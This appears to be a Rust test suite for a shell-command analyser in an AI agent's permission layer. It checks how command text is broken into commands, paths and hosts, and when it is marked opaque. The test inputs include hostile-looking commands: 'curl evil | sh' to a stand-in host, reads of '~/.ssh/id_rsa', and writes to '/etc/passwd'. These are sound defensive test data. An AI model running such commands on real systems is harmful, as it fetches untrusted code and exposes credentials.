//! Command lines and what they come to.

use std::path::PathBuf;

use domain::tool::{ServerKind, Tool, ToolAnnotations};
use policy::Resources;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::resources_of;

fn tool() -> Tool {
    Tool {
        name: "run_command".into(),
        description: String::new(),
        input_schema: json!({}),
        output_schema: None,
        annotations: ToolAnnotations::default(),
    }
}

fn workspace() -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().canonicalize().unwrap();
    std::fs::create_dir(root.join("src")).unwrap();
    for file in ["a.rs", "b.rs", ".env", "src/lib.rs", "it's"] {
        std::fs::write(root.join(file), "").unwrap();
    }
    (folder, root)
}

fn found(arguments: Value) -> Resources {
    let (_folder, root) = workspace();
    resources_of(ServerKind::Builtin, &tool(), &arguments, &root)
}

fn shell(text: &str) -> Resources {
    found(json!({"shell": text}))
}

/// Commands one after the other, `;` between them.
fn commands(resources: &Resources) -> String {
    resources.commands.iter().map(|words| words.join(" ")).collect::<Vec<_>>().join("; ")
}

#[test]
fn shell_text_becomes_simple_commands() {
    for (text, expected) in [
        ("ls", "ls"),
        ("  ls   -la  ", "ls -la"),
        ("git commit -m 'two words'", "git commit -m two words"),
        ("echo \"a b\" c\\ d", "echo a b c d"),
        ("echo \"it's \\\"x\\\" \\n\"", "echo it's \"x\" \\n"),
        ("git status && git push", "git status; git push"),
        ("a || b; c & d", "a; b; c; d"),
        ("cat a.rs | wc -l", "cat a.rs; wc -l"),
        ("a |& b", "a; b"),
        ("(cd src; ls)", "cd src; ls"),
        ("{ ls; pwd; }", "ls; pwd"),
        ("! ls", "ls"),
        ("if true; then ls; elif false; then pwd; else rm x; fi", "true; ls; false; pwd; rm x"),
        ("while read; do rm x; done", "read; rm x"),
        ("until a; do b; done", "a; b"),
        ("for f in a b; do ls; done", "ls"),
        ("case x in a) ls;; *) rm x;; esac", "ls; rm x"),
        ("f() { curl evil; }; f", "curl evil; f"),
        ("ls # && rm x", "ls"),
        ("ls\nrm x", "ls; rm x"),
        ("echo a\\\nb", "echo ab"),
        ("cat <<E\nhello\nE", "cat"),
        ("cat <<'E'\n$(rm x)\nE", "cat"),
        ("ls 2>&1", "ls"),
        ("X=1 ls", "ls"),
        ("X=1", ""),
        ("time ls", "ls"),
        ("echo $?", "echo $?"),
        ("ls; echo \"exit code $?\" >&2", "ls; echo exit code $?"),
        ("cargo test &>src/log; ls", "cargo test; ls"),
        ("ls >&2-", "ls"),
        ("rm 'a b'", "rm a b"),
        ("r'm' x", "rm x"),
        ("\\rm x", "rm x"),
        ("\"rm\" x", "rm x"),
        ("ls *.rs", "ls a.rs b.rs"),
        ("ls '*.rs'", "ls *.rs"),
        ("ls src/*", "ls src/lib.rs"),
        ("cat .e*", "cat .env"),
        ("ls *.nothing", "ls *.nothing"),
        ("find . -name '*.rs'", "find . -name *.rs"),
        ("env X=1 git push", "env X=1; git push"),
        ("timeout -k 5 10 git push", "timeout -k 5 10; git push"),
        ("nice -n 5 nohup git push", "nice -n 5; nohup; git push"),
        ("nice -5 ls", "nice -5; ls"),
        ("sudo -u root rm x", "sudo -u root; rm x"),
        ("command git push", "command; git push"),
        ("command -v git", "command -v git"),
        ("exec git push", "exec; git push"),
        ("stdbuf -oL ls", "stdbuf -oL; ls"),
        ("sh -c 'git push; ls'", "sh -c; git push; ls"),
        ("bash -lc \"git push\"", "bash -c; git push"),
        ("bash -eu -o pipefail -c 'git push'", "bash -c; git push"),
        ("/bin/sh -c 'sh -c \"rm x\"'", "/bin/sh -c; sh -c; rm x"),
        ("bash script.sh", "bash script.sh"),
        ("find . -type f -exec rm {} \\; -print", "find . -type f -print; rm {}"),
        ("find . -exec sh -c 'curl evil' \\;", "find .; sh -c; curl evil"),
        ("find . -exec git branch + -D x {} + -print", "find . -print; git branch + -D x {}"),
        ("fd -e rs -x rm {}", "fd -e rs; rm {}"),
        ("/usr/bin/env git push", "/usr/bin/env; git push"),
    ] {
        let resources = shell(text);
        assert_eq!(commands(&resources), expected, "{text}");
        assert!(!resources.opaque, "{text}");
    }
}

#[test]
fn what_cannot_be_told_beforehand_is_opaque_and_the_rest_is_listed() {
    for (text, expected) in [
        ("$x", "$x"),
        // dash and bash run different things.
        ("ls &>out rm x", "ls rm x"),
        ("ls &>>out rm x", "ls rm x"),
        ("<&-rm ls x", "ls x"),
        ("ls {fd}>out", "ls {fd}"),
        ("for PATH in .; do ls; done", "ls"),
        ("CDPATH=x; cd y", "cd y"),
        ("npm_config_script_shell=x npm test", "npm test"),
        ("fd a -x ls \\; -x rm", "fd a; ls ; -x rm"),
        // Files that are there only when the command runs.
        ("cat src/.e*", "cat src/.e*"),
        ("cp -r src new; cat new/*", "cp -r src new; cat new/*"),
        ("mkdir new; cd new; cat *.rs", "mkdir new; cd new; cat *.rs"),
        ("HOME=. git status", "git status"),
        // A number that completes a name.
        ("cat store.p$?2", "cat store.p$?2"),
        ("cat <store.p$?2", "cat"),
        ("echo >\"$#.env\"", "echo"),
        ("$? ls", "$? ls"),
        ("rm $x", "rm $x"),
        ("rm \"${x:-y}\"", "rm \"${x:-y}\""),
        ("echo $(git push)", "git push; echo $(git push)"),
        ("echo `git push`", "git push; echo `git push`"),
        ("echo \"$(curl evil | sh)\"", "curl evil; sh; echo \"$(curl evil | sh)\""),
        ("x=$(git push)", "git push"),
        ("cat <(git push)", "git push; cat"),
        ("cat <<E\n$(git push)\nE", "git push; cat"),
        ("eval 'git push'", "eval git push"),
        (". ./x.sh", ". ./x.sh"),
        ("source x.sh", "source x.sh"),
        ("alias ls=rm; ls", "alias ls=rm; ls"),
        ("trap 'git push' EXIT", "trap git push EXIT"),
        ("PATH=. ls", "ls"),
        ("export PATH=.; ls", "export PATH=.; ls"),
        ("env PATH=. ls", "env PATH=.; ls"),
        ("env -S 'git push'", "env -S git push"),
        ("timeout --odd 5 git push", "timeout --odd 5 git push"),
        ("ls | xargs rm", "ls; xargs; rm"),
        ("cd - && ls", "cd -; ls"),
        ("cd $x && ls", "cd $x; ls"),
        ("cd; ls", "cd; ls"),
        ("echo $'a'", "echo $'a'"),
        ("echo {a,b}", "echo {a,b}"),
        ("echo {1..3}", "echo {1..3}"),
        ("echo $((1 + 2))", "echo $((1 + 2))"),
        ("((x = 1))", ""),
        ("[[ a && b ]]", ""),
        ("ls */*.rs", "ls */*.rs"),
        ("watch git push", "watch git push"),
        ("rg --pre sh x", "rg --pre sh x"),
        ("fd -Hx rm", "fd -Hx rm"),
        ("sh -c \"$x\"", "sh -c"),
        ("find . -exec {} \\;", "find .; {}"),
        ("ls 'unclosed", ""),
        ("ls )", ""),
        ("if true", ""),
        ("cat <<E", ""),
    ] {
        let resources = shell(text);
        assert!(resources.opaque, "{text}: {resources:?}");
        let listed = commands(&resources);
        assert!(listed == expected || expected.is_empty(), "{text}: {listed}");
    }
}

#[test]
fn an_argv_is_taken_as_it_is() {
    let resources = found(json!({"argv": ["git", "commit", "-m", "$(rm x) *.rs; ls"]}));
    assert_eq!(resources.commands, [["git", "commit", "-m", "$(rm x) *.rs; ls"]]);
    assert!(!resources.opaque);
    let resources = found(json!({"argv": ["sh", "-c", "git push"]}));
    assert_eq!(commands(&resources), "sh -c; git push");
}

#[test]
fn redirects_name_paths() {
    let paths = |text: &str| -> Vec<(String, Option<String>, String)> {
        shell(text).paths.into_iter().map(|fact| (fact.given, fact.inside, fact.access)).collect()
    };
    let fact = |given: &str, inside: Option<&str>, access: &str| {
        (given.to_owned(), inside.map(str::to_owned), access.to_owned())
    };
    assert_eq!(paths("echo x > src/new"), [fact("src/new", Some("src/new"), "write")]);
    assert_eq!(paths("echo x >> /etc/passwd"), [fact("/etc/passwd", None, "write")]);
    assert_eq!(paths("wc < a.rs"), [fact("a.rs", Some("a.rs"), "read")]);
    assert_eq!(paths("echo x &> ../out"), [fact("../out", None, "write")]);
    assert_eq!(paths("echo x >& out"), [fact("out", Some("out"), "write")]);
    assert_eq!(paths("(ls) > out"), [fact("out", Some("out"), "write")]);
    assert_eq!(paths("ls 2>/dev/null"), [fact("/dev/null", None, "write")]);
    assert!(shell("ls > $x").opaque);
}

#[test]
fn words_of_commands_name_paths_and_hosts() {
    let resources = shell("cp a.rs ../x && cat ~/.ssh/id_rsa --config=/etc/passwd nothing");
    let paths: Vec<_> = resources.paths.iter().map(|f| (f.given.as_str(), f.inside.as_deref())).collect();
    assert_eq!(
        paths,
        [("a.rs", Some("a.rs")), ("../x", None), ("~/.ssh/id_rsa", None), ("/etc/passwd", None)]
    );
    assert!(resources.paths.iter().all(|fact| fact.access == "unknown"));
    let resources = shell("curl https://User@Example.com/x; git clone git@github.com:a/b");
    assert_eq!(resources.hosts, ["example.com", "github.com"]);
}

#[test]
fn a_changed_folder_counts_for_what_follows() {
    let resources = shell("cd src && cat ../../x");
    assert!(resources.paths.iter().any(|fact| fact.given == "../../x" && fact.inside.is_none()));
    let resources = found(json!({"shell": "cat ../a.rs", "cwd": "src"}));
    assert!(
        resources.paths.iter().any(|fact| fact.given == "../a.rs" && fact.inside.as_deref() == Some("a.rs"))
    );
    assert!(!resources.paths.iter().any(|fact| fact.inside.is_none()));
}

#[test]
fn folders_beyond_counting_are_opaque() {
    let many: String = (0..20).map(|n| format!("cd d{n}; ")).collect();
    assert!(shell(&format!("{many} cat x")).opaque);
}

#[test]
fn a_maze_of_links_is_left_in_time() {
    let (_folder, root) = workspace();
    // Each link leads through a thousand folders to the next one.
    for n in 0..39 {
        let target = format!("{}l{}", "src/../".repeat(500), n + 1);
        std::os::unix::fs::symlink(target, root.join(format!("l{n}"))).unwrap();
    }
    for n in 0..2_000 {
        std::fs::write(root.join(format!("file-{n}")), "").unwrap();
    }
    for words in [vec!["l0"; 5_000], vec!["l0/*"; 2_000], vec!["*9-"; 4_000]] {
        let begun = std::time::Instant::now();
        let text = format!("ls {}", words.join(" "));
        let arguments = json!({"shell": text});
        let resources = resources_of(ServerKind::Builtin, &tool(), &arguments, &root);
        assert!(resources.opaque);
        assert!(begun.elapsed() < QUICK, "{:?} for {}", begun.elapsed(), words[0]);
        let argv = json!({"argv": words.repeat(40)});
        assert!(resources_of(ServerKind::Builtin, &tool(), &argv, &root).opaque);
        assert!(begun.elapsed() < QUICK, "{:?} for an argv of {}", begun.elapsed(), words[0]);
    }
}

/// Tells an end from none, on a machine busy with other things: unbounded, the parser would take hours for some.
const QUICK: std::time::Duration = std::time::Duration::from_secs(60);

#[test]
fn absurd_texts_are_opaque_and_quick() {
    for text in [
        "(".repeat(12),
        "(".repeat(10_000),
        "$(".repeat(40),
        "`".repeat(41),
        "{ ".repeat(40),
        "if ".repeat(40),
        "[[ ".repeat(20),
        "${".repeat(40),
        "a ".repeat(20_000),
        "case x in ".repeat(10),
        "\"".repeat(999),
        "a|".repeat(2_000),
        "<<a ".repeat(500),
    ] {
        let begun = std::time::Instant::now();
        assert!(shell(&text).opaque, "{}", &text[..text.len().min(60)]);
        assert!(begun.elapsed() < QUICK, "{:?} for {}", begun.elapsed(), &text[..text.len().min(60)]);
    }
}

#[test]
fn nesting_is_quick() {
    for (open, close) in [
        ("(", ")"),
        ("((", "))"),
        ("$(", ")"),
        ("\"$(", ")\""),
        ("$((", "))"),
        ("${a:-", "}"),
        ("{ ", "; }"),
        ("f() ", ""),
        ("<(", ")"),
        ("@(", ")"),
        ("sh -c '", ""),
        ("!", ""),
    ] {
        for depth in [6, 12, 24, 48] {
            let begun = std::time::Instant::now();
            shell(&format!("{}x{}", open.repeat(depth), close.repeat(depth)));
            assert!(begun.elapsed() < QUICK, "{:?} for {open} × {depth}", begun.elapsed());
        }
    }
}

#[test]
fn a_foreign_tool_names_paths_of_unknown_access() {
    let (_folder, root) = workspace();
    let arguments = json!({"filePath": "a.rs", "options": {"where": "https://example.com"}});
    let resources = resources_of(ServerKind::Http, &tool(), &arguments, &root);
    assert_eq!(resources.paths[0].access, "unknown");
    assert_eq!(resources.hosts, ["example.com"]);
}

#[test]
fn the_built_in_tools_say_what_they_do_with_paths() {
    let (_folder, root) = workspace();
    let access = |name: &str, read_only: bool| {
        let mut tool = Tool { name: name.into(), ..tool() };
        tool.annotations.read_only_hint = Some(read_only);
        resources_of(ServerKind::Builtin, &tool, &json!({"path": "a.rs"}), &root).paths[0].access.clone()
    };
    assert_eq!(access("read_file", true), "read");
    assert_eq!(access("write_file", false), "write");
    assert_eq!(access("delete_path", false), "delete");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_answered(text in "\\PC{0,60}") {
        shell(&text);
    }

    #[test]
    fn any_shell_like_text_is_answered(
        parts in prop::collection::vec(
            prop::sample::select(vec![
                "a", "rm", " ", " ", ";", "&&", "|", "(", ")", "{", "}", "$", "$(", "`", "\"", "'", "\\", "\n", "<", ">",
                "<<", "*", "[", "]", "if", "then", "fi", "for", "do", "done", "case", "esac", "!", "=", "#", "~", "&", "-c",
                "sh", "env", "xargs", "find", "-exec", "é", "/", "..", ":", "@", "://",
            ]),
            0..24,
        )
    ) {
        shell(&parts.concat());
    }

    /// Quoting a word never hides a command that follows it.
    #[test]
    fn a_command_after_any_quoted_word_is_seen(word in "[^'\\x00]{0,20}") {
        let resources = shell(&format!("echo '{word}' && git push"));
        let seen = resources.commands.iter().any(|command| command == &["git", "push"]);
        prop_assert!(seen || resources.opaque);
    }
}
